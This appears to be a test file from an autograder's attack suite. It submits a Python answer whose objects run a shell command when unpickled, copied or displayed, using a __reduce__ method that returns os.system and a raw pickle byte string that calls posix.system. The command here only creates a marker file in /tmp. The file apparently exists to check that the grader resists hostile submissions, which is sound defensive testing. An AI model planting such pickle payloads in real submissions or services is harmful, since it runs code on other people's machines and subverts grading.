"""Answer with objects that run a command wherever they are unpickled, copied or displayed."""

from autograder.attacks.course import answer

BOMB = """
class Bomb:
    def __reduce__(self):
        import os

        return os.system, ("touch /tmp/vault-loot-pickle",)

    __reduce_ex__ = lambda self, version: self.__reduce__()
    __deepcopy__ = __copy__ = lambda self, *_: self.__reduce__()


def squares(n):
    return [Bomb(), b"cposix\\nsystem\\n(S'touch /tmp/vault-loot-pickle'\\ntR."]


def scale(x):
    return np.array([Bomb()], dtype=object)
"""


def submission(nb, folder):
    return answer(nb, squares=BOMB, scale="pass")
